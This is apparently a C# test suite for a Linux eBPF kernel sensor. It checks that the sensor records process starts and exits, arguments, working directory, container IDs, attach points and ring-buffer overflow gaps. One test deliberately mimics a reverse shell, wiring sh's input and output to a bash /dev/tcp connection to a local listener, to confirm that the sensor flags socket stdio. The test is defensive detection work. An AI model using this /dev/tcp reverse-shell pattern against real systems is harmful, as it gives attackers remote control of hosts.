using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using Platform.Agent.Sensor;
using Platform.Contracts;
using static Platform.Tests.Agent.AgentTestSupport;

namespace Platform.Tests.Sensor;

/// <summary>
/// The kernel sensor on this machine's real kernel (root, BTF): what it records of real processes, read back from the
/// agent's spool. Each test marks its processes with a marker of its own: the sensor sees the whole machine.
/// </summary>
[System.Runtime.Versioning.SupportedOSPlatform("linux")]
[Collection(nameof(KernelSensorTests))] // one sensor at a time: the tests count what a burst leaves in the ring buffer
public sealed class KernelSensorTests : IDisposable
{
    private readonly string _directory = Directory.CreateTempSubdirectory("sensor-cwd-").FullName;
    private readonly string _marker = "marker-" + Guid.NewGuid().ToString("N")[..12];
    private readonly List<string> _cgroups = [];

    public void Dispose()
    {
        foreach (var cgroup in _cgroups)
            Directory.Delete(cgroup); // empty once its processes ended
        Directory.Delete(_directory, recursive: true);
    }

    [Fact]
    public async Task A_burst_of_2000_short_processes_is_recorded_whole_with_argv_cwd_parent_and_exit_code()
    {
        await using var sensor = await new SensorHarness().Started();
        var pids = new System.Collections.Concurrent.ConcurrentDictionary<int, int>();
        await Parallel.ForEachAsync(Enumerable.Range(0, 2000), new ParallelOptions { MaxDegreeOfParallelism = 8 }, async (n, _) =>
        {
            using var process = Process.Start(new ProcessStartInfo("/bin/sh", ["-c", $"true {_marker}-{n}; exit {n % 5}"]) { WorkingDirectory = _directory })!;
            pids[process.Id] = n;
            await process.WaitForExitAsync(CancellationToken.None);
        });

        // A process's exit is the first exit of its pid after its start: pids are reused (pid_max is 32768 here, and
        // other processes of the machine start meanwhile), so an exit of the same pid may be another process's.
        List<ProcessStartEvent> Starts() => sensor.Starts.Where(e => e.Args is [_, "-c", var script] && script.Contains(_marker, StringComparison.Ordinal)).ToList();
        ProcessExitEvent? ExitOf(ProcessStartEvent start, ILookup<int, ProcessExitEvent> exits) =>
            exits[start.Pid].Where(e => e.Time >= start.Time).MinBy(e => e.Time);
        ILookup<int, ProcessExitEvent> Exits() => sensor.Exits.Where(e => pids.ContainsKey(e.Pid)).ToLookup(e => e.Pid);
        await Until(() => Starts() is var all && all.Count >= 2000 && Exits() is var exits && all.All(s => ExitOf(s, exits) is not null), "the 2,000 starts and their exits");
        var starts = Starts();
        Assert.Equal(2000, starts.Count);
        foreach (var start in starts)
        {
            var n = pids[start.Pid];
            Assert.Equal(["/bin/sh", "-c", $"true {_marker}-{n}; exit {n % 5}"], start.Args);
            Assert.Equal(("/bin/sh", "sh", _directory, Environment.ProcessId, 0L), (start.Executable, start.ProcessName, start.Cwd, start.Ppid, start.Uid));
            Assert.Equal("root", start.User);
            Assert.Null(start.Interpreter);
            Assert.InRange(start.Time, DateTimeOffset.UtcNow.AddMinutes(-5), DateTimeOffset.UtcNow);
        }

        Assert.Equal(2000, starts.Select(s => s.Pid).Distinct().Count());
        var exitsByPid = Exits();
        Assert.All(starts, s => Assert.Equal(pids[s.Pid] % 5, ExitOf(s, exitsByPid)!.ExitCode));
        Assert.Equal(0, sensor.Choice.State.LostEvents);
    }

    [Fact]
    public async Task No_program_runs_on_every_system_call_each_is_on_the_tracepoint_of_its_own_syscall()
    {
        await using var sensor = await new SensorHarness().Started();
        var points = sensor.Choice.Sensor!.AttachPoints;

        Assert.Equal(sensor.Choice.Sensor.Programs.Count, points.Count);
        Assert.DoesNotContain(points, p => System.Text.RegularExpressions.Regex.IsMatch(p, "^(tp_btf|raw_tp|raw_tracepoint|tracepoint/raw_syscalls)/sys_(enter|exit)$"));
        Assert.All(points, p => Assert.Matches("^(tp_btf/(sched_process_(exec|fork|exit)|inet_sock_set_state|io_uring_(submit_req|complete))|tracepoint/syscalls/sys_(enter|exit)_[a-z0-9]+)$", p));
        Assert.Subset(new HashSet<string>(points), new HashSet<string>
        {
            "tracepoint/syscalls/sys_enter_connect", "tracepoint/syscalls/sys_exit_connect", "tracepoint/syscalls/sys_exit_accept4",
            "tracepoint/syscalls/sys_exit_listen", "tracepoint/syscalls/sys_enter_sendto", "tracepoint/syscalls/sys_enter_sendmmsg",
            "tracepoint/syscalls/sys_exit_openat",
        });
        // The tamper programs (tamper.bpf.h) are on the exits of the calls that change a file only: no entry programs (the
        // arguments are read from the entry's registers at the exit), none on read/write/close/stat; io_uring's on its
        // submission and completion (uring.bpf.h: one comparison for the operations that change no file).
        var tamper = sensor.Choice.Sensor.Programs.Select((name, i) => (name, point: points[i])).Where(p => p.name.StartsWith("tamper_", StringComparison.Ordinal)).ToList();
        Assert.Equal(["tp_btf/io_uring_complete", "tp_btf/io_uring_submit_req"], tamper.Where(p => p.name.StartsWith(KernelSensor.UringPrograms, StringComparison.Ordinal)).Select(p => p.point).Order());
        Assert.All(tamper.Where(p => !p.name.StartsWith(KernelSensor.UringPrograms, StringComparison.Ordinal)), p => Assert.StartsWith("tracepoint/syscalls/sys_exit_", p.point, StringComparison.Ordinal));
        Assert.Subset(new HashSet<string>(tamper.Select(p => p.point)), new HashSet<string>
        {
            "tracepoint/syscalls/sys_exit_openat", "tracepoint/syscalls/sys_exit_truncate", "tracepoint/syscalls/sys_exit_ftruncate",
            "tracepoint/syscalls/sys_exit_unlinkat", "tracepoint/syscalls/sys_exit_renameat2", "tracepoint/syscalls/sys_exit_linkat",
            "tracepoint/syscalls/sys_exit_fchmodat", "tracepoint/syscalls/sys_exit_fchownat", "tracepoint/syscalls/sys_exit_utimensat",
            "tracepoint/syscalls/sys_exit_ioctl",
        });
        Assert.DoesNotContain(tamper, p => System.Text.RegularExpressions.Regex.IsMatch(p.point, "_(close|newfstatat|fstat|statx|lseek|mmap|fcntl|getdents64)$"));
        // One program per open exit: tamper.bpf.h's does files.bpf.h's sensitive-file part too (the fd's file and inode
        // are looked up once), and the agent leaves files.bpf.h's own out.
        Assert.All(new[] { "open", "openat", "openat2", "creat" }, call =>
            Assert.Equal([$"tamper_{call}_exit"], sensor.Choice.Sensor.Programs.Where((_, i) => points[i] == $"tracepoint/syscalls/sys_exit_{call}")));
        // Nor on the calls every process makes all the time (a program on sys_enter_write made each write ~1.4x slower).
        Assert.DoesNotContain(points, p => System.Text.RegularExpressions.Regex.IsMatch(p, "^tracepoint/syscalls/sys_(enter|exit)_(read|write|readv|writev|pread64|pwrite64)$"));
        Assert.DoesNotContain(sensor.Choice.Warnings, w => w.Contains("no tracepoint", StringComparison.Ordinal)); // all of them exist on x86_64
    }

    [Fact]
    public async Task A_syscall_tracepoint_the_kernel_lacks_is_found_missing_and_one_it_has_is_not()
    {
        await using var sensor = await new SensorHarness().Started(); // mounts tracefs when it is not
        var events = KernelSensor.TracefsEvents();

        Assert.NotNull(events);
        Assert.Null(KernelSensor.MissingTracepoint("tracepoint/syscalls/sys_exit_openat", events));
        Assert.Equal("syscalls/sys_exit_no_such_call", KernelSensor.MissingTracepoint("tracepoint/syscalls/sys_exit_no_such_call", events));
        Assert.Null(KernelSensor.MissingTracepoint("tp_btf/sched_process_exec", events)); // attached by name, not through tracefs
        Assert.Null(KernelSensor.MissingTracepoint("tp_btf/io_uring_complete", events)); // but io_uring's are optional: looked up
        Assert.Equal("io_uring/io_uring_no_such_event", KernelSensor.MissingTracepoint("tp_btf/io_uring_no_such_event", events));
    }

    [Fact]
    public async Task A_script_run_through_its_shebang_names_the_script_and_its_interpreter_and_one_run_by_sh_names_sh()
    {
        await using var sensor = await new SensorHarness().Started();
        var script = Path.Combine(_directory, "x.sh");
        await File.WriteAllTextAsync(script, $"#!/bin/sh\ntrue {_marker}\n");
        File.SetUnixFileMode(script, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);

        // ./x.sh, a relative name: the executable is the script, resolved against the working directory.
        using (var shebang = Process.Start(new ProcessStartInfo("/bin/sh", ["-c", $"./x.sh {_marker}-shebang"]) { WorkingDirectory = _directory })!)
            await shebang.WaitForExitAsync();
        using (var bySh = Process.Start(new ProcessStartInfo("/bin/sh", ["x.sh", $"{_marker}-sh"]) { WorkingDirectory = _directory })!)
            await bySh.WaitForExitAsync();

        ProcessStartEvent? viaShebang = null, viaSh = null;
        await Until(() => (viaShebang = sensor.Starts.FirstOrDefault(e => e.Args?.LastOrDefault() == $"{_marker}-shebang" && e.Interpreter is not null)) is not null
            && (viaSh = sensor.Starts.FirstOrDefault(e => e.Args?.LastOrDefault() == $"{_marker}-sh")) is not null, "both scripts' starts");
        Assert.Equal((script, "/bin/sh"), (viaShebang!.Executable, viaShebang.Interpreter));
        Assert.Equal(["/bin/sh", "./x.sh", $"{_marker}-shebang"], viaShebang.Args); // the kernel's argv for a #! script: interpreter, script as named, arguments
        Assert.Equal(("/bin/sh", (string?)null), (viaSh!.Executable, viaSh.Interpreter));
        Assert.Equal(["/bin/sh", "x.sh", $"{_marker}-sh"], viaSh.Args);
    }

    [Fact]
    public async Task A_shell_whose_input_and_output_are_a_connection_has_socket_stdio_with_the_peer()
    {
        await using var sensor = await new SensorHarness().Started();
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var accepting = listener.AcceptTcpClientAsync();
        // As a reverse shell does: a connection on fds 0 and 1 of a shell (bash's /dev/tcp).
        using var bash = Process.Start(new ProcessStartInfo("/bin/bash", ["-c", $"exec 3<>/dev/tcp/127.0.0.1/{port}; /bin/sh -c 'true {_marker}' <&3 >&3"])
        { RedirectStandardError = true })!;
        using var accepted = await accepting;
        await bash.WaitForExitAsync();

        ProcessStartEvent? shell = null;
        await Until(() => (shell = sensor.Starts.FirstOrDefault(e => e.Args is [_, "-c", var s] && s == $"true {_marker}")) is not null, "the shell's start");
        var stdio = shell!.Stdio!;
        Assert.Equal((StdioKind.Socket, StdioKind.Socket, StdioKind.Pipe), (stdio.Stdin, stdio.Stdout, stdio.Stderr));
        Assert.Equal(("127.0.0.1", port), (stdio.RemoteAddress, stdio.RemotePort));
        Assert.Equal(bash.Id, shell.Ppid);
        Assert.Equal("bash", shell.ParentProcessName);
    }

    [Fact]
    public async Task Children_carry_their_parent_and_a_signal_death_exits_with_128_plus_the_signal()
    {
        await using var sensor = await new SensorHarness().Started();
        using var sh = Process.Start(new ProcessStartInfo("/bin/sh", ["-c", $"/bin/echo {_marker}-a >/dev/null; /bin/echo {_marker}-b >/dev/null; kill -9 $$"]) { WorkingDirectory = _directory })!;
        await sh.WaitForExitAsync();

        await Until(() => sensor.Exits.Any(e => e.Pid == sh.Id) && sensor.Starts.Count(e => e.Ppid == sh.Id) == 2, "the children and the shell's exit");
        var children = sensor.Starts.Where(e => e.Ppid == sh.Id).OrderBy(e => e.Time).ToList();
        Assert.Equal([["/bin/echo", $"{_marker}-a"], ["/bin/echo", $"{_marker}-b"]], children.Select(c => c.Args));
        Assert.All(children, c => Assert.Equal(("sh", "/bin/echo", _directory), (c.ParentProcessName, c.Executable, c.Cwd)));
        Assert.Equal(137, sensor.Exits.Single(e => e.Pid == sh.Id).ExitCode); // SIGKILL
        Assert.All(children, c => Assert.Equal(0, sensor.Exits.Single(e => e.Pid == c.Pid).ExitCode));
    }

    [Fact]
    public async Task A_process_in_a_docker_like_cgroup_carries_the_container_id()
    {
        await using var sensor = await new SensorHarness().Started();
        var id = Convert.ToHexStringLower(System.Security.Cryptography.RandomNumberGenerator.GetBytes(32));
        var cgroup = $"/sys/fs/cgroup/pids/docker/{id}";
        Directory.CreateDirectory(cgroup);
        _cgroups.Add(cgroup);
        // The shell moves itself into the container's cgroup, then execs: the exec'd program is in the container.
        using var sh = Process.Start("/bin/sh", ["-c", $"echo $$ > {cgroup}/cgroup.procs && exec /bin/echo {_marker}"])!;
        await sh.WaitForExitAsync();

        ProcessStartEvent? echo = null;
        await Until(() => (echo = sensor.Starts.FirstOrDefault(e => e.Args is ["/bin/echo", var m] && m == _marker)) is not null, "the start in the container");
        Assert.Equal(id, echo!.Container?.Id);
        await Until(() => sensor.Exits.Any(e => e.Pid == sh.Id), "its exit");
        Assert.Equal(id, sensor.Exits.Single(e => e.Pid == sh.Id).Container?.Id); // from the process table
        var outside = sensor.Starts.First(e => e.Pid == sh.Id && e.Executable == "/bin/sh");
        Assert.Null(outside.Container); // the shell started on the host
    }

    [Fact]
    public async Task A_ring_buffer_too_small_for_what_comes_loses_events_and_says_so_as_a_sensor_overflow_gap()
    {
        await using var sensor = await new SensorHarness(ringBufferBytes: 4096).Started();
        var before = DateTimeOffset.UtcNow;
        // A record larger than the ring buffer itself can never be put in it (an argument of 6,000 bytes), and a burst
        // of processes fills a buffer of 4 KiB faster than it is read.
        using (var large = Process.Start("/bin/echo", [_marker + new string('x', 6000)])!)
            await large.WaitForExitAsync();
        await Parallel.ForEachAsync(Enumerable.Range(0, 200), new ParallelOptions { MaxDegreeOfParallelism = 8 }, async (n, _) =>
        {
            using var process = Process.Start("/bin/sh", ["-c", $"true {_marker}-{n}"])!;
            await process.WaitForExitAsync(CancellationToken.None);
        });

        await Until(() => sensor.Events.OfType<CoverageGapEvent>().Any(), "a coverage gap");
        var gaps = sensor.Events.OfType<CoverageGapEvent>().ToList();
        Assert.All(gaps, gap =>
        {
            Assert.Equal(CoverageGapReason.SensorOverflow, gap.Reason);
            Assert.True(gap.LostEvents > 0);
            Assert.True(gap.Time <= gap.Until, "the span's start before its end");
            Assert.InRange(gap.Time, before.AddSeconds(-1), DateTimeOffset.UtcNow);
        });
        Assert.DoesNotContain(sensor.Starts, e => e.Args?.Any(a => a.Length > 6000) == true);
        // The heartbeat's count is the gaps' (it is counted before the gap is spooled).
        await Until(() => sensor.Events.OfType<CoverageGapEvent>().Sum(g => g.LostEvents) == sensor.Choice.State.LostEvents, "the gaps to add up to the count");
    }
}
